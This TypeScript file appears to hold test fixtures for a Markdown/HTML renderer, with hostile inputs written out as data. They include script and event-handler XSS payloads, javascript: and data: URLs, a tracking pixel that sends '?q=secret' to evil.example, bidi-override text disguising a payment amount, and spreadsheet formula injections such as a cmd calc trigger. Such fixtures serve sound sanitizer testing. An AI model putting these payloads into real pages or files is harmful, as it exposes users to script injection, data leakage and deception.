/** An answer that tries everything: scripts, pictures, frames, styles, links, bidi tricks, broken Markdown. */
export const HOSTILE = `# <img src=x onerror="window.pwned=1">

<script>window.pwned = 2</script>

<iframe src="https://evil.example/frame"></iframe>

<style>body { display: none }</style>

![a picture](https://evil.example/pixel.png?q=secret) and ![](javascript:alert(1))

[click me](javascript:window.pwned=3), [look](https://evil.example/page), <https://evil.example/auto>, https://evil.example/bare

[reference][evil]

[evil]: https://evil.example/reference "onmouseover=alert(1)"

<a href="https://evil.example/a" style="position:fixed;inset:0">cover</a> <form action="https://evil.example"><input name=x></form>

Pay \u202E000,1$ now\u202C, and <b onclick="window.pwned=4">bold</b> &lt;script&gt;window.pwned=5&lt;/script&gt;

| a | <svg onload="window.pwned=6"> | **unclosed |
|---|---|
| =HYPERLINK("https://evil.example") | \`<script>\` | extra | cells |
| [x](data:text/html,<script>1</script>) |

\`\`\`html
<script>window.pwned = 7</script>
\`\`\`

> quote <object data="https://evil.example/o"></object>

1. **never closed
2. ~~~ nor this

${"x".repeat(600)}

<div`;

/** Words that a cell, a heading or a title could hold. */
export const HOSTILE_WORDS: readonly string[] = [
  "<script>window.pwned = 11</script>",
  '<img src="https://evil.example/x.png" onerror="window.pwned = 12">',
  "[click](javascript:window.pwned=13) ![x](https://evil.example/y.png)",
  "</td></tr></table><h1>out</h1><style>body { display: none }</style>",
  "pay \u202E000,1$\u202C \u2066now\u2069",
  '=HYPERLINK("https://evil.example","x")',
  "+1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "-2+3",
  "\t=1+1",
  "\r=1+1",
  `${"x".repeat(600)}`,
];
